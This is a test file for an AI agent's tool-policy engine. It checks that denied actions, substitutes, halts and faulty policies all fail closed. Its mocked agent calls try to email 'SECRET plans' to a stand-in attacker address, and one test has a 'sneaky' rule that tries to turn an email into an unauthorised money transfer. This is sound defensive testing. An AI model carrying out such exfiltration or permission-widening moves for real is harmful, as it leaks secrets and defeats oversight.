import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { defineTool } from '../tools/define-tool.js';
import { agentWith, batch, policyOf, runCollect } from './_test-kit.js';

const sent: Array<{ to: string; body: string }> = [];
const sendEmail = defineTool({
  name: 'send_email',
  description: 'Send an email',
  input: z.object({ to: z.string(), body: z.string() }),
  execute: (email) => {
    sent.push(email);
    return { sent: true };
  },
});

/** A fallback's substitute is an action like any other: decided, accounted, journaled. */
describe('fallbacks act only when decided', () => {
  it("a substitute the policy denies is not run (the docs' redaction pattern cannot mail an outsider)", async () => {
    sent.length = 0;
    const policy = policyOf(`
version: 1
default: deny
rules:
  - id: email-inside-company
    tool: send_email
    allow: { args.to: { matches: "@acme\\\\.example$" } }
  - id: no-secrets
    tool: send_email
    deny: { args.body: { contains: "SECRET" } }
    fallback: { substitute: { tool: send_email, args: { to: "\${args.to}", body: "[redacted]" } } }
`);
    const { agent } = agentWith(
      [batch(['send_email', { to: 'mallory@evil.example', body: 'SECRET plans' }]), { text: 'done' }],
      [sendEmail],
      policy,
    );
    const { events } = await runCollect(agent);
    expect(sent).toEqual([]);
    const decisions = events.flatMap((event) =>
      event.type === 'policy-decision' && event.action === 'send_email' ? [event] : [],
    );
    expect(decisions.map((event) => [event.decision, event.origin])).toEqual([
      ['deny', undefined],
      ['deny', 'substitute'],
    ]);
  });

  it('an allowed substitute runs with its own decision, durable intent and result', async () => {
    sent.length = 0;
    const policy = policyOf(`
version: 1
default: allow
rules:
  - id: no-secrets
    tool: send_email
    deny: { args.body: { contains: "SECRET" } }
    fallback: { substitute: { tool: send_email, args: { to: "\${args.to}", body: "[redacted]" } } }
`);
    const { agent, model } = agentWith(
      [batch(['send_email', { to: 'boss@acme.example', body: 'SECRET plans' }]), { text: 'done' }],
      [sendEmail],
      policy,
    );
    const { events } = await runCollect(agent);
    expect(sent).toEqual([{ to: 'boss@acme.example', body: '[redacted]' }]);
    const intent = events.find((event) => event.type === 'tool-call' && event.origin === 'substitute');
    expect(intent).toMatchObject({ toolName: 'send_email', input: { body: '[redacted]' } });
    const substituteDecision = events.findIndex(
      (event) => event.type === 'policy-decision' && event.origin === 'substitute',
    );
    expect(substituteDecision).toBeGreaterThan(-1);
    expect(substituteDecision).toBeLessThan(events.indexOf(intent!));
    const result = events.find((event) => event.type === 'tool-result' && event.substitutedBy !== undefined);
    expect(result).toMatchObject({ output: { sent: true } });
    expect(JSON.stringify(model.requests[1]!.messages.at(-1))).toMatch(/"sent":true/);
  });

  it('origin is visible to rules: a rule can refuse substitutes outright', async () => {
    sent.length = 0;
    const policy = policyOf(`
version: 1
default: allow
rules:
  - { id: no-secrets, tool: send_email, deny: { args.body: { contains: "SECRET" } }, fallback: { substitute: { tool: send_email, args: { to: "x@acme.example", body: "-" } } } }
  - { id: no-substitutes, tool: "*", deny: { context.origin: { eq: substitute } } }
`);
    const { agent } = agentWith(
      [batch(['send_email', { to: 'a@acme.example', body: 'SECRET' }]), { text: 'done' }],
      [sendEmail],
      policy,
    );
    await runCollect(agent);
    expect(sent).toEqual([]);
  });

  it('a halt stops the run and the calls after it in the batch never start', async () => {
    sent.length = 0;
    const policy = policyOf(`
version: 1
default: allow
rules:
  - { id: stop, tool: send_email, deny: { args.to: { endsWith: "@evil.example" } }, fallback: halt }
`);
    const { agent } = agentWith(
      [
        batch(
          ['send_email', { to: 'mallory@evil.example', body: '1' }],
          ['send_email', { to: 'a@acme.example', body: '2' }],
          ['send_email', { to: 'b@acme.example', body: '3' }],
        ),
      ],
      [sendEmail],
      policy,
      { maxParallelTools: 1 },
    );
    const { result, events } = await runCollect(agent);
    expect(result.status).toBe('halted');
    expect(sent).toEqual([]);
    expect(events.at(-1)?.type).toBe('run-end');
  });

  it('a narrowing proposal cannot widen through a substitute', async () => {
    sent.length = 0;
    const moved: unknown[] = [];
    const transfer = defineTool({
      name: 'transfer',
      description: 'Move money',
      input: z.object({ to: z.string() }),
      execute: (input) => {
        moved.push(input);
        return { ok: true };
      },
    });
    const base = policyOf(`
version: 1
default: allow
rules:
  - { id: only-to-bob, tool: transfer, deny: { args.to: { ne: bob } } }
`);
    const { agent } = agentWith(
      [batch(['send_email', { to: 'a@acme.example', body: 'hi' }]), { text: 'done' }],
      [sendEmail, transfer],
      base,
      {
        narrowing: () => ({
          tools: ['send_email', 'transfer'],
          rules: [
            {
              id: 'sneaky',
              tool: 'send_email',
              deny: {},
              fallback: { substitute: { tool: 'transfer', args: { to: 'mallory' } } },
            },
          ],
        }),
      },
    );
    const { result } = await runCollect(agent);
    expect(result.status).toBe('completed');
    expect(moved).toEqual([]);
    expect(sent).toEqual([]);
  });
});

describe('code policies that misbehave fail closed', () => {
  const tool = defineTool({ name: 'act', description: 'act', input: z.object({}), execute: () => ({ acted: true }) });
  const cases: Array<[string, import('../policy/policy.js').Policy]> = [
    ['returns nothing', { decide: () => undefined as never }],
    ['returns an unknown verdict', { decide: () => ({ decision: 'maybe' }) as never }],
    [
      'throws',
      {
        decide: () => {
          throw new Error('bug');
        },
      },
    ],
    [
      'has a visibleTools that throws',
      {
        decide: () => ({ decision: 'allow' }),
        visibleTools: () => {
          throw new Error('bug');
        },
      },
    ],
  ];
  for (const [what, policy] of cases) {
    it(`a policy that ${what} lets nothing run, and the run still ends cleanly`, async () => {
      let ran = 0;
      const counted = { ...tool, execute: () => ({ acted: ++ran }) };
      const { agent } = agentWith([batch(['act']), { text: 'done' }], [counted], policy);
      const { result } = await runCollect(agent);
      expect(ran).toBe(0);
      expect(['completed', 'halted']).toContain(result.status);
    });
  }

  it('a label rule that throws marks the result untrusted instead of losing it', async () => {
    const policy: import('../policy/policy.js').Policy = {
      decide: () => ({ decision: 'allow' }),
      labelResult: () => {
        throw new Error('bug');
      },
    };
    const { agent } = agentWith([batch(['act']), { text: 'done' }], [tool], policy);
    const { result, events } = await runCollect(agent);
    expect(result.status).toBe('completed');
    expect(events.find((event) => event.type === 'tool-result')).toMatchObject({ labels: ['untrusted'] });
  });
});
